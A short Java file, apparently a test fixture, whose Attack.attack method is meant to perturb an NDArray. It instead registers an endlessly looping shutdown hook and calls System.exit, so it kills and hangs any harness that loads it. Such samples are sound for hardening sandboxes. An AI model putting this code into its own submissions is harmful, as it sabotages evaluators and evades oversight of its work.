package t;

import ai.djl.ndarray.NDArray;

public final class Attack {
  public static NDArray attack(NDArray x) throws Exception {
    Runtime.getRuntime().addShutdownHook(new Thread(() -> { while (true) {} }));
    System.exit(0);
    return x;
  }
}
